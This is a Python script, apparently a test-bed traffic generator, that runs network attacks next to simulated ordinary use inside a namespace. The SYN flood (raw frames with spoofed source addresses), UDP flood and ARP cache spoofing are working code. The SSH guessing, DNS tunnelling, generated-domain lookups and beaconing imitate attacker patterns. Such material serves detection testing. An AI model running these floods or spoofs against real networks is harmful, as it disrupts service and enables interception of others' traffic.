"""Attacks and ordinary life, to be run inside a namespace: attack_tools.py WHAT ARGUMENTS...

Servers print "ready" once they listen and run until they are ended; the others end by themselves.
"""
import os
import random
import select
import socket
import struct
import sys
import threading
import time

SSH_BANNER = b"SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"
CHUNK = b"\0" * 65536


def checksum(data):
    """RFC 1071."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet_socket(dev):
    """A raw socket, and the device's own address."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((dev, 0))
    return raw, raw.getsockname()[4]


def mac_bytes(text):
    return bytes(int(part, 16) for part in text.split(":"))


def syn_frame(mac, source, src, dst, port):
    """One SYN with Ethernet and IPv4 headers."""
    ends = src + socket.inet_aton(dst)
    tcp = struct.pack(">HHIIBBHHH", 1024 + source % 60000, port, source, 0, 0x50, 2, 512, 0, 0)
    total = checksum(ends + struct.pack(">BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack(">H", total) + tcp[18:]
    head = struct.pack(">BBHHHBBH", 0x45, 0, 40, source & 0xFFFF, 0, 64, 6, 0) + ends
    head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
    return mac + head + tcp


def syn_flood(dev, mac, dst, port, seconds, spoof):
    """SYNs to one port, from this host's address or from as many as there are."""
    raw, own = packet_socket(dev)
    link = mac_bytes(mac) + own + b"\x08\0"
    rng = random.Random(1)
    frames = []
    for i in range(4000):
        src = (struct.pack(">I", 0xC6130000 | rng.getrandbits(16)) if spoof == "spoof"
               else socket.inet_aton(spoof))
        frames.append(syn_frame(link, rng.getrandbits(16) + i, src, dst, int(port)))
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for frame in frames:
            raw.send(frame)
        time.sleep(0.05)  # a rate that leaves the machine to others, too: some 20 to 60 kpps


def udp_flood(dst, port, seconds):
    """As many small datagrams as this process can send."""
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.connect((dst, int(port)))
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for _ in range(1000):
            try:
                out.send(b"x" * 32)
            except OSError:
                pass  # a refused one before; the flood does not mind


def arp_spoof(dev, mac, victim, lie, count):
    """Answers nobody asked for: the address lie is ours."""
    raw, own = packet_socket(dev)
    frame = (mac_bytes(mac) + own + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + own
             + socket.inet_aton(lie) + mac_bytes(mac) + socket.inet_aton(victim))
    for _ in range(int(count)):
        raw.send(frame)
        time.sleep(1)


def ssh_server(address, port):
    """Says who it is, lets three passwords be tried, and hangs up."""
    def serve(link):
        with link:
            link.sendall(SSH_BANNER)
            for _ in range(5):
                if not link.recv(4096):
                    return
                link.sendall(os.urandom(500))
            link.recv(4096)
    listen(address, port, serve)


def ssh_guess(address, port, count, gap):
    """As hydra does: connect, try, be refused, again."""
    for _ in range(int(count)):
        with socket.create_connection((address, int(port)), timeout=5) as link:
            link.sendall(b"SSH-2.0-libssh2_1.10.0\r\n")
            link.recv(4096)
            for _ in range(5):
                link.sendall(os.urandom(400))
                if not link.recv(4096):
                    break
        time.sleep(float(gap))


def listen(address, port, serve):
    """A thread for each connection."""
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.create_server((address, int(port)), family=family, backlog=64) as server:
        print("ready", flush=True)
        while True:
            link = server.accept()[0]
            threading.Thread(target=serve_quietly, args=(serve, link), daemon=True).start()


def serve_quietly(serve, link):
    """A client that goes is no error."""
    try:
        serve(link)
    except OSError:
        pass


def file_server(address, port):
    """GET SIZE or PUT, a line, then bytes: pages, a speed test, a backup's other end."""
    def serve(link):
        with link, link.makefile("rb") as lines:
            while True:
                words = lines.readline().split()
                if len(words) < 2:
                    return
                left = int(words[1])
                while left > 0:
                    if words[0] == b"GET":
                        part = CHUNK[:min(left, len(CHUNK))]
                        link.sendall(part)
                    else:
                        part = lines.read(min(left, len(CHUNK)))
                        if not part:
                            return
                    left -= len(part)
                if words[0] == b"PUT":
                    link.sendall(b"done\n")
    listen(address, port, serve)


def talk_server(address, port, *answers):
    """Its first words at once, one more for each line it gets."""
    def serve(link):
        with link, link.makefile("rb") as lines:
            for answer in answers:
                link.sendall(answer.encode().decode("unicode_escape").encode())
                if not lines.readline():
                    return
    listen(address, port, serve)


def talk(source, address, port, *lines):
    """Waits for the server's word before each line."""
    with socket.create_connection((address, int(port)), timeout=10, source_address=(source, 0)) as link:
        for line in lines:
            link.recv(4096)
            link.sendall(line.encode() + b"\r\n")
        link.recv(4096)


def ask_host(address, port, host):
    """One HTTP request."""
    with socket.create_connection((address, int(port)), timeout=10) as link:
        link.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
        link.shutdown(socket.SHUT_WR)
        link.recv(4096)


def get(link, size):
    link.sendall(b"GET %d\n" % size)
    left = size
    while left > 0:
        left -= len(link.recv(65536))


def put(link, size):
    link.sendall(b"PUT %d\n" % size)
    left = size
    while left > 0:
        link.sendall(CHUNK[:min(left, len(CHUNK))])
        left -= min(left, len(CHUNK))
    link.recv(16)


def upload(address, port, size):
    with socket.create_connection((address, int(port)), timeout=30) as link:
        put(link, int(size))


def beacon(address, port, count, gap, jitter):
    """The same few bytes, again and again."""
    rng = random.Random(2)
    due = time.monotonic()
    for _ in range(int(count)):
        with socket.create_connection((address, int(port)), timeout=5) as link:
            get(link, 200)
        due += float(gap) * (1 + float(jitter) * (2 * rng.random() - 1))
        time.sleep(max(0, due - time.monotonic()))


def dns_server(address):
    """Answers each question with itself and nothing else."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind((address, 53))
        print("ready", flush=True)
        while True:
            data, peer = server.recvfrom(4096)
            rcode = 3 if b"\7nowhere" in data else 0
            server.sendto(data[:2] + struct.pack(">H", 0x8180 | rcode) + data[4:], peer)


def question(number, name, kind):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(
        ">HH", kind, 1)


def ask(server, names, kind, gap):
    """One question after the other."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.connect((server, 53))
        for number, name in enumerate(names):
            out.send(question(number & 0xFFFF, name, kind))
            if select.select([out], [], [], 1)[0]:
                out.recv(4096)
            time.sleep(gap)


def dns_tunnel(server, count):
    """As iodine does: data in labels, NULL records."""
    rng = random.Random(3)
    letters = "abcdefghijklmnopqrstuvwxyz0123456789"
    ask(server, ("".join(rng.choices(letters, k=40)) + ".t.example.com" for _ in range(int(count))),
        10, 0.02)


def dga(server, count):
    """Generated names, none of which exists."""
    rng = random.Random(4)
    names = ["nowhere" for _ in range(int(count))]
    letters = "abcdefghijklmnopqrstuvwxyz"
    ask(server, ("".join(rng.choices(letters, k=12)) + str(i) + "." + name
                 for i, name in enumerate(names)), 1, 0.05)


def life(address, resolver, seconds):
    """Somebody reads pages; a speed test; a backup. Ports 8443 (pages) and 8022 (backup)."""
    rng = random.Random(5)
    end = time.monotonic() + float(seconds)
    sites = ["www", "cdn", "static", "img", "api", "news", "mail", "video", "shop", "wiki"]
    jobs = [threading.Thread(target=upload, args=(address, 8022, 150_000_000)),
            threading.Thread(target=speed_test, args=(address, 8443))]
    for job in jobs:
        job.start()
    while time.monotonic() < end:
        host = rng.choice(sites) + str(rng.randrange(30)) + ".example.org"
        ask(resolver, [host, "cdn." + host], rng.choice([1, 28]), 0.01)
        page = [threading.Thread(target=fetch, args=(address, rng.randrange(2000, 300000)))
                for _ in range(rng.randrange(1, 7))]
        for part in page:
            part.start()
        for part in page:
            part.join()
        time.sleep(min(rng.expovariate(0.5), 8))
    for job in jobs:
        job.join()


def fetch(address, size):
    with socket.create_connection((address, 8443), timeout=20) as link:
        for _ in range(1 + size % 4):
            get(link, size)


def speed_test(address, port):
    """Four streams down, then four up."""
    def stream(up):
        with socket.create_connection((address, port), timeout=60) as link:
            (put if up else get)(link, 30_000_000)
    for up in (False, True):
        streams = [threading.Thread(target=stream, args=(up,)) for _ in range(4)]
        for part in streams:
            part.start()
        for part in streams:
            part.join()


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
